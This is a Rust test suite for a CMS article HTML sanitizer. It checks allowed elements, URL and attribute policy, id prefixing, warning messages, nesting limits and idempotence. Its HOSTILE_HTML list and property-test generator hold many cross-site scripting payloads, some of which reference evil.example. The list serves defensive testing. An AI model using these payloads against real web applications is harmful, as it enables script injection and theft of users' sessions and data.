//! Tests of the HTML sanitizer for articles: it keeps allowed elements, removes hostile ones (R303, R404) and is
//! idempotent.

use cms::articles::html_sanitizer::{clean, is_blank};
use cms::articles::sanitizer_warnings::warnings;
use proptest::prelude::*;

/// The allowed elements with their attributes.
const ALLOWED_ELEMENTS: &[(&str, &[&str])] = &[
    ("a", &["href", "rel"]),
    ("abbr", &["title"]),
    ("b", &[]),
    ("blockquote", &[]),
    ("br", &[]),
    ("caption", &[]),
    ("cite", &[]),
    ("code", &[]),
    ("col", &["span"]),
    ("colgroup", &["span"]),
    ("dd", &[]),
    ("del", &[]),
    ("dfn", &[]),
    ("div", &[]),
    ("dl", &[]),
    ("dt", &[]),
    ("em", &[]),
    ("figcaption", &[]),
    ("figure", &[]),
    ("h2", &[]),
    ("h3", &[]),
    ("h4", &[]),
    ("h5", &[]),
    ("h6", &[]),
    ("hr", &[]),
    ("i", &[]),
    ("img", &["src", "alt", "width", "height"]),
    ("ins", &[]),
    ("kbd", &[]),
    ("li", &["value"]),
    ("mark", &[]),
    ("ol", &["start", "reversed"]),
    ("p", &[]),
    ("pre", &[]),
    ("q", &[]),
    ("s", &[]),
    ("small", &[]),
    ("strong", &[]),
    ("sub", &[]),
    ("sup", &[]),
    ("table", &[]),
    ("tbody", &[]),
    ("td", &["colspan", "rowspan"]),
    ("tfoot", &[]),
    ("th", &["colspan", "rowspan", "scope"]),
    ("thead", &[]),
    ("time", &["datetime"]),
    ("tr", &[]),
    ("ul", &[]),
];

/// Attributes that every element may have.
const GLOBAL_ATTRIBUTES: [&str; 3] = ["lang", "dir", "id"];

/// The first element, attribute or URL in sanitized HTML that is not allowed. `None` if all are allowed. The parser in
/// this function is independent of that of the sanitizer.
pub fn forbidden_content(html: &str) -> Option<String> {
    for (at, fragment) in html.split('<').enumerate() {
        if at == 0 {
            continue;
        }
        let Some((tag, _)) = fragment.split_once('>') else { return Some(format!("an open end: <{fragment}")) };
        if let Some(name) = tag.strip_prefix('/') {
            if !ALLOWED_ELEMENTS.iter().any(|(known, _)| *known == name) {
                return Some(format!("the end of {name}"));
            }
            continue;
        }
        let (name, mut rest) = tag.split_once(' ').unwrap_or((tag, ""));
        let Some((_, names)) = ALLOWED_ELEMENTS.iter().find(|(known, _)| *known == name) else {
            return Some(name.to_owned());
        };
        while !rest.is_empty() {
            let Some((attribute, value)) = rest.split_once("=\"") else { return Some(format!("loose: {rest}")) };
            let Some((value, after)) = value.split_once('"') else { return Some(format!("unquoted: {rest}")) };
            if !names.contains(&attribute) && !GLOBAL_ATTRIBUTES.contains(&attribute) {
                return Some(format!("{attribute} of {name}"));
            }
            let is_address = attribute == "href" || attribute == "src";
            if is_address && !is_allowed_url(value) {
                return Some(format!("{attribute}={value}"));
            }
            rest = after.trim_start();
        }
    }
    None
}

fn is_allowed_url(address: &str) -> bool {
    let address = address.to_lowercase();
    let allowed_prefixes = ["http://", "https://", "mailto:", "tel:", "/", "#"];
    allowed_prefixes.iter().any(|prefix| address.starts_with(prefix))
        && !address.starts_with("//")
        && !address.starts_with("/\\")
        && !address.contains(['\t', '\n', '\r'])
}

#[track_caller]
fn sanitized(html: &str) -> String {
    let once = clean(html).unwrap_or_else(|| panic!("sanitizing does not end: {html}"));
    assert_eq!(clean(&once).as_deref(), Some(once.as_str()), "not idempotent: {html}");
    assert_eq!(forbidden_content(&once), None, "{html} became {once}");
    once
}

/// Known attacks: event handlers, URL schemes, and markup that parsers rewrite, such as foreign content, raw text and
/// tables.
pub const HOSTILE_HTML: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'/>",
    "<img src=\"/a.jpg\"onerror=\"alert(1)\">",
    "<img/src=/a.jpg/onerror=alert(1)>",
    "<p onclick=alert(1) style=\"position:fixed\" class=\"admin\" id=\"root\">x</p>",
    "<body onload=alert(1)>x",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"java&#9;script:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"blob:https://x/1\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=\"/\\evil.example\">x</a>",
    "<a href=\"/&#9;/evil.example\">x</a>",
    "<a href=\"\\\\evil.example\">x</a>",
    "<a href=\"https:evil.example\">x</a>",
    "<a href=\"https:///evil.example\">x</a>",
    "<a href=\"https://x\" target=_blank ping=\"https://evil.example\">x</a>",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<img src=\"mailto:x@example.org\" alt=x>",
    "<img srcset=\"javascript:alert(1)\" src=\"/a.jpg\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=\"</style><img src=x onerror=alert(1)>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mtext><table><mglyph><style><math><table id=\"</table>\"><img src onerror=alert(1)\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">x</mi></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noscript><img src=\"</noscript><script>alert(1)</script>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<template><script>alert(1)</script></template><p>x</p>",
    "<p><template><style></template><img src=x onerror=alert(1)></style></p>",
    "<style>@import url(//evil.example/x.css)</style>",
    "<style><img src=\"</style><img src=x onerror=alert(1)//\">",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=\"https://evil.example/\">",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<img src=x onerror=alert(1)>\">",
    "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<form action=\"javascript:alert(1)\"><button formaction=\"javascript:alert(1)\">x</button><input autofocus onfocus=alert(1)></form>",
    "<input type=image src=x onerror=alert(1)>",
    "<textarea><img src=\"</textarea><img src=x onerror=alert(1)>\">",
    "<select><option><style></select><img src=x onerror=alert(1)></style>",
    "<title><img src=\"</title><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">",
    "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>--!>",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
    "<!DOCTYPE html><html><head><script>alert(1)</script></head><body onload=alert(1)>x</body></html>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x-custom onclick=alert(1)>x</x-custom>",
    "<img alt=\"`\" src=\"/`onerror=alert(1)\">",
    "<abbr title=\"<img src=x onerror=alert(1)>\">x</abbr>",
    "<img src=\"/a.jpg\" alt=\"&quot;><script>alert(1)</script>\">",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<p>&#60;img src=x onerror=alert(1)&#62;</p>",
    "<p>&#824;</p><b>&#824;x</b>",
    "<table><a href=\"javascript:alert(1)\"><tr><td><svg onload=alert(1)>",
    "<a href=\"https://a.example\"><table><a href=\"javascript:alert(1)\">x",
    "<ol reversed=\"&quot; onclick=alert(1)\"><li>x</ol>",
    "<td colspan=\"1e9\" rowspan=\"99999\" onclick=alert(1)>x</td>",
];

// R303
#[test]
fn sanitizer_removes_everything_hostile() {
    for html in HOSTILE_HTML {
        let sanitized_html = sanitized(html);
        for deleted in ["<script", "<style", "<svg", "<math", "<iframe", "<template", "<noscript"] {
            assert!(!sanitized_html.contains(deleted), "{html} became {sanitized_html}");
        }
    }
    // Escaped markup stays text.
    assert_eq!(
        sanitized("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"),
        "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"
    );
    // Scripts, styles and SVG are removed with their content. Of forms, only the tags are removed, and the text stays.
    assert_eq!(sanitized("a<script>alert(1)</script><style>p{}</style><svg><text>b</text></svg>c"), "ac");
    assert_eq!(sanitized("<form><label>Name</label> <input name=x></form>"), "Name ");
}

// R404
#[test]
fn sanitizer_keeps_allowed_elements() {
    for html in [
        "<h2>By boat</h2><p>Boats leave <strong>early</strong>, <em>mostly</em>.</p>",
        "<h3>a</h3><h4>b</h4><h5>c</h5><h6>d</h6><hr>",
        "<ul><li>One</li><li>Two<ol start=\"3\"><li>Three</li></ol></li></ul><dl><dt>Boat</dt><dd>550 000 VND (2023)</dd></dl>",
        "<table><caption>Caves</caption><colgroup><col span=\"2\"></colgroup><thead><tr><th scope=\"col\">Cave</th><th scope=\"col\">Length</th></tr></thead>\
         <tbody><tr><td colspan=\"2\" rowspan=\"1\">Phong Nha</td></tr></tbody><tfoot><tr><td>x</td></tr></tfoot></table>",
        "<figure><img src=\"/media/boat.webp\" alt=\"A boat\" width=\"640\" height=\"480\"><figcaption>On the Son</figcaption></figure>",
        "<blockquote><p>Quiet.</p></blockquote><p><q>Really</q> <cite>A guest</cite></p>",
        "<pre><code>if a &lt; b &amp;&amp; c</code></pre><p><kbd>Esc</kbd> <mark>x</mark> <sub>2</sub> <sup>3</sup> <s>old</s> <del>a</del><ins>b</ins></p>",
        "<p><a href=\"/places/phong-nha-cave\">The cave</a>, <a href=\"#boats\">boats</a>, <a href=\"mailto:a@example.org\">mail</a>, <a href=\"tel:+84232\">call</a></p>",
        "<p lang=\"vi\" dir=\"ltr\">Động Phong Nha<br>Hang Én</p><p><time datetime=\"2023-12-21\">then</time> <abbr title=\"kilometers\">km</abbr></p>",
        "<div>One</div><div>Two</div>",
    ] {
        assert_eq!(sanitized(html), html);
    }
}

#[test]
fn sanitizer_rewrites_elements_and_attributes_by_policy() {
    for (html, sanitized_html) in [
        ("<h1 class=\"x\">Title</h1>", "<h2>Title</h2>"),
        (
            "<a href=\"https://example.org/x?a=1&b=2\" target=\"_blank\">x</a>",
            "<a href=\"https://example.org/x?a=1&amp;b=2\" rel=\"noopener nofollow\">x</a>",
        ),
        ("<a href=\"HTTP://example.org\">x</a>", "<a href=\"HTTP://example.org\" rel=\"noopener nofollow\">x</a>"),
        ("<a href=\"/x\" rel=\"opener\">x</a>", "<a href=\"/x\">x</a>"),
        ("<a href=\" /x \">x</a>", "<a href=\"/x\">x</a>"),
        ("<a href=\"javascript:alert(1)\">x</a>", "<a>x</a>"),
        ("<img src=\"/a.jpg\">", "<img src=\"/a.jpg\" alt=\"\">"),
        ("<p>a<img alt=\"lost\">b</p>", "<p>ab</p>"),
        ("<p>a<img src=\"data:image/png;base64,xx\" alt=\"src=\">b</p>", "<p>ab</p>"),
        ("<section><p>a</p></section><span style=\"color:red\">b</span><font>c</font>", "<p>a</p>bc"),
        ("<img alt=\"<h1>\" src=\"/a.jpg\">", "<img alt=\"&lt;h1&gt;\" src=\"/a.jpg\">"),
        ("<p>open <b>ends", "<p>open <b>ends</b></p>"),
        ("e&#769;", "é"),
        ("a<!-- secret -->b", "ab"),
    ] {
        assert_eq!(sanitized(html), sanitized_html, "{html}");
    }
    for blank_html in ["", " \n", "<p></p>", "<p>&nbsp;</p><br>", "<script>x</script>", "<a href=\"/x\"> </a>"] {
        assert!(is_blank(&sanitized(blank_html)), "{blank_html}");
    }
    assert!(!is_blank("<p>x</p>") && !is_blank("<img src=\"/a.jpg\" alt=\"\">") && !is_blank("x"));
}

/// A test of the console's editor reads the same golden file (`admin/test/rich.test.tsx`).
#[test]
fn golden_rich_texts_stay_unchanged_and_contain_every_element_and_attribute() {
    let texts: Vec<String> = serde_json::from_str(include_str!("../golden/rich_texts.json")).unwrap();
    assert_eq!(texts.len(), 30);
    for text in &texts {
        assert_eq!(&sanitized(text), text);
    }
    let tag_texts: Vec<&str> =
        texts.iter().flat_map(|text| text.split('<').map(|tag| tag.split('>').next().unwrap())).collect();
    for (name, attributes) in ALLOWED_ELEMENTS {
        let tags_of_element = || tag_texts.iter().filter(|tag_text| tag_text.split(' ').next() == Some(name));
        assert!(tags_of_element().next().is_some(), "no golden text has {name}");
        for attribute in *attributes {
            assert!(
                tags_of_element().any(|tag_text| tag_text.contains(&format!(" {attribute}=\""))),
                "no text has {attribute} of {name}"
            );
        }
    }
    for attribute in GLOBAL_ATTRIBUTES {
        assert!(
            tag_texts.iter().any(|tag_text| tag_text.contains(&format!(" {attribute}=\""))),
            "no golden text has {attribute}"
        );
    }
}

#[test]
fn ids_get_a_prefix_and_fragment_links_lead_to_them() {
    for (html, sanitized_html) in [
        (
            "<a href=\"#boats\">x</a><h2 id=\"boats\">Boats</h2>",
            "<a href=\"#part-boats\">x</a><h2 id=\"part-boats\">Boats</h2>",
        ),
        ("<a href=\"#b%C3%A8\">x</a><p id=\"bè\">y</p>", "<a href=\"#part-b%C3%A8\">x</a><p id=\"part-bè\">y</p>"),
        (
            "<p id=\"a&amp;b\">y</p><a href=\"#a&amp;b\">x</a>",
            "<p id=\"part-a&amp;b\">y</p><a href=\"#part-a&amp;b\">x</a>",
        ),
        // A link to a fragment outside of this text stays unchanged.
        ("<a href=\"#comments\">x</a><p id=\"a\">y</p>", "<a href=\"#comments\">x</a><p id=\"part-a\">y</p>"),
        ("<a href=\"/x#a\">x</a><p id=\"a\">y</p>", "<a href=\"/x#a\">x</a><p id=\"part-a\">y</p>"),
        ("<p id=\"\">a</p><p id=\"two words\">b</p>", "<p>a</p><p>b</p>"),
    ] {
        assert_eq!(sanitized(html), sanitized_html, "{html}");
    }
    assert_eq!(sanitized(&format!("<p id=\"{}\">a</p>", "x".repeat(101))), "<p>a</p>");
}

#[test]
fn sanitizer_warnings_name_each_removal_once_in_order() {
    let codes_and_messages = |html: &str| -> Vec<(String, String)> {
        let warnings = warnings("contentHtml", html, &sanitized(html));
        warnings.into_iter().map(|warning| (warning.code.to_owned(), warning.message)).collect()
    };
    let single_warning = |code: &str, message: &str| vec![(code.to_owned(), message.to_owned())];
    for (html, expected) in [
        (
            "<iframe src=\"https://example.org\"><p>no</p></iframe><p>a</p><svg><style>x</style><text>b</text></svg>",
            single_warning("element_removed", "Removed elements and their content: iframe, svg"),
        ),
        (
            "<p><u>a</u> <span>b</span> <u>c</u></p><section><p>d</p></section>",
            single_warning("element_unwrapped", "Removed elements, but kept their text: u, span, section"),
        ),
        (
            "<a href=\"//host/x\">a</a><a href=\"sms:+84\">b</a><a href=\"geo:17,106\" target=\"_blank\" rel=\"x\">c</a>",
            single_warning(
                "link_removed",
                "Removed links that are not http, https, mailto, tel or a path on this site: //host/x, sms:+84, geo:17,106",
            ),
        ),
        (
            "<img src=\"data:image/png;base64,AA\" alt=\"a\"><img alt=\"b\">",
            single_warning(
                "image_removed",
                "Removed images that are not from http, https or this site: data:image/png;base64,AA, an image without a URL",
            ),
        ),
        (
            "<p class=\"a\" style=\"b\" onclick=\"c\">d</p><td width=\"1\">e</td><img src=\"/a.jpg\" width=\"50%\">",
            single_warning(
                "attribute_removed",
                "Removed attributes: class of p, style of p, onclick of p, width of td, width of img",
            ),
        ),
        (
            "<a href=\"#boats\">a</a><a href=\"#top\">b</a><a href=\"#c\">c</a><p id=\"c\">d</p>",
            single_warning(
                "link_without_target",
                "These links point to anchors that do not exist in this text: #boats",
            ),
        ),
        // These changes are not reported: `h1` becomes `h2`, an id gets a prefix, and `html`, `body` and comments are
        // removed.
        ("<html><body><h1 id=\"a\">a</h1><p lang=\"vi\">&lt;iframe&gt; <!-- b --></p></body></html>", vec![]),
        (
            "<script>document.write('<u>a</u>')</script>b",
            single_warning("element_removed", "Removed elements and their content: script"),
        ),
        (
            "<u></u><tt></tt><big></big><font></font><center></center><blink></blink><nobr></nobr>",
            single_warning(
                "element_unwrapped",
                "Removed elements, but kept their text: u, tt, big, font, center and 2 more",
            ),
        ),
    ] {
        assert_eq!(codes_and_messages(html), expected, "{html}");
    }
    let long_link_warnings = codes_and_messages(&format!("<a href=\"x:{}\">a</a>", "é".repeat(200)));
    assert!(
        long_link_warnings[0].1.ends_with("é…") && long_link_warnings[0].1.chars().count() < 140,
        "{long_link_warnings:?}"
    );
    for text in serde_json::from_str::<Vec<String>>(include_str!("../golden/rich_texts.json")).unwrap() {
        assert_eq!(codes_and_messages(&text), [], "{text}");
    }
}

#[test]
fn sanitizer_refuses_deeply_nested_content() {
    let repeat_to_100_kb = |fragment: &str| fragment.repeat(100_000 / fragment.len());
    for fragment in ["<div>", "<b>", "<x-y>", "<div></x>", "<div><table><td></div>", "<svg><math>", "<DIV\n>"] {
        assert_eq!(clean(&repeat_to_100_kb(fragment)), None, "{fragment}");
    }
    // Many elements that are not nested are accepted, also without end tags if these are optional.
    for fragment in ["<p>x", "<li>x", "<div>x</div>", "<p><b>x</b><br>", "&lt;div&gt;"] {
        assert!(clean(&repeat_to_100_kb(fragment)).is_some(), "{fragment}");
    }
    let nested_lists = format!("{}x{}", "<ul><li>".repeat(100), "</li></ul>".repeat(100));
    assert_eq!(sanitized(&nested_lists), nested_lists);
}

/// Generates a start tag, an end tag or a text that occurs in attacks. The test below combines up to 15 of them.
fn attack_fragment() -> impl Strategy<Value = String> {
    let names = prop::sample::select(vec![
        "p",
        "a",
        "b",
        "div",
        "h1",
        "h2",
        "table",
        "tbody",
        "tr",
        "td",
        "th",
        "caption",
        "col",
        "colgroup",
        "ul",
        "li",
        "dl",
        "dd",
        "pre",
        "blockquote",
        "figure",
        "img",
        "br",
        "svg",
        "math",
        "mtext",
        "mglyph",
        "mi",
        "annotation-xml",
        "foreignObject",
        "desc",
        "title",
        "style",
        "script",
        "noscript",
        "template",
        "iframe",
        "textarea",
        "select",
        "option",
        "form",
        "button",
        "input",
        "xmp",
        "plaintext",
        "noembed",
        "frameset",
        "body",
        "html",
        "head",
        "object",
        "font",
        "nobr",
        "em",
        "code",
        "ruby",
        "rt",
        "listing",
        "marquee",
        "x-y",
    ]);
    let attribute = prop::sample::select(vec![
        "",
        " href=\"https://a.example/\"",
        " href=/x",
        " href='javascript:x'",
        " src=/a.jpg",
        " src=x onerror=y",
        " title=\"</style><img src=x>\"",
        " alt='<!--'",
        " alt=\"-->\"",
        " class=c id=i",
        " style='x:y'",
        " encoding=text/html",
        " colspan=2",
        " reversed",
        " lang=vi",
        " \u{338}",
        " =\"",
        " x=`",
    ]);
    let text = prop::sample::select(vec![
        "x",
        " ",
        "\n",
        "\n\n",
        "&nbsp;",
        "&lt;",
        "&amp;lt;",
        "&#60;",
        "&#824;",
        "\u{338}",
        "\u{301}",
        "<",
        ">",
        "\"",
        "'",
        "<!--",
        "-->",
        "--!>",
        "<![CDATA[",
        "]]>",
        "<?x",
        "<!x",
        "</",
        "&",
        "\u{a0}",
        "Động",
        "\u{feff}",
        "\r",
        "&#13;",
    ]);
    prop_oneof![
        4 => (names.clone(), attribute).prop_map(|(name, attribute)| format!("<{name}{attribute}>")),
        3 => names.prop_map(|name| format!("</{name}>")),
        3 => text.prop_map(str::to_owned),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 3000, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn sanitizer_is_idempotent_and_removes_everything_hostile_from_any_input(
        pieces in prop::collection::vec(attack_fragment(), 0..16),
    ) {
        let html = pieces.concat();
        let once = clean(&html);
        prop_assert!(once.is_some(), "it does not settle down: {}", html);
        let once = once.unwrap();
        prop_assert_eq!(forbidden_content(&once), None, "{} became {}", html, once);
        prop_assert_eq!(clean(&once), Some(once));
    }
}
